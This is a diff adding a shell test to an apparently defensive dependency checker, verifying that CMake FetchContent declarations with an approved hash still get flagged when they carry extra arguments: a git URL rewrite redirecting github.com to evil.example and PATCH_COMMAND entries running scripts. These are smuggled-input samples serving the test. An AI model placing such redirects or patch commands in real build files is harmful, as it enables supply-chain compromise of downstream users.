@@ -128,6 +128,20 @@ passes()
 	told UNKNOWN_VERSION
 }
 
+@test "an approved hash does not hide what else is said and could not be read" {
+	local what
+
+	for what in 'GIT_CONFIG url.https://evil.example/.insteadOf=https://github.com/' \
+		'PATCH_COMMAND ${CMAKE_COMMAND} -P ${P}' 'PATCH_COMMAND sh fix.sh'; do
+		stage CMakeLists.txt <<-END
+		FetchContent_Declare(zlib GIT_REPOSITORY https://github.com/madler/zlib GIT_TAG $COMMIT $what)
+		END
+		run mc deps check
+		expect_output "more is said of it that could not be read"
+		expect_output "(UNPARSED)"
+	done
+}
+
 # ---- folders ---------------------------------------------------------------------------------
 
 @test "a file that moves out of an approved folder is missing there" {
